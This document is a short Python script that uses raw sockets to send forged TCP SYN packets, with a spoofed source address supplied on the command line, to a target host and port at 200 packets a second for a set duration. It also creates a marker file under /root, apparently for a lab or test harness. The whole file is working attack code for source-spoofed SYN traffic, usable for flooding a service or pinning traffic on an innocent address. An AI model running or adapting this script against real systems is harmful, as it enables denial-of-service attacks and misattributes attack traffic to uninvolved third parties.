"""Asks for connections in somebody else's name: `syn.py SOURCE TARGET PORT SECONDS`, 200 a second."""

import socket
import struct
import sys
import time

source, target, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
ends = socket.inet_aton(source) + socket.inet_aton(target)
for number in range(int(seconds * 200)):
    head = (20000 + number % 40000, port, number, 0, 5 << 4, 2, 64240)
    segment = struct.pack("!HHIIBBHHH", *head, 0, 0)
    segment = struct.pack("!HHIIBBHHH", *head, checksum(ends + struct.pack("!BBH", 0, 6, 20) + segment), 0)
    raw.sendto(struct.pack("!BBHHHBBH", 0x45, 0, 40, number % 65536, 0, 64, 6, 0) + ends + segment, (target, 0))
    if number == 200:
        open("/root/sending", "w", encoding="ascii").close()
    time.sleep(0.005)
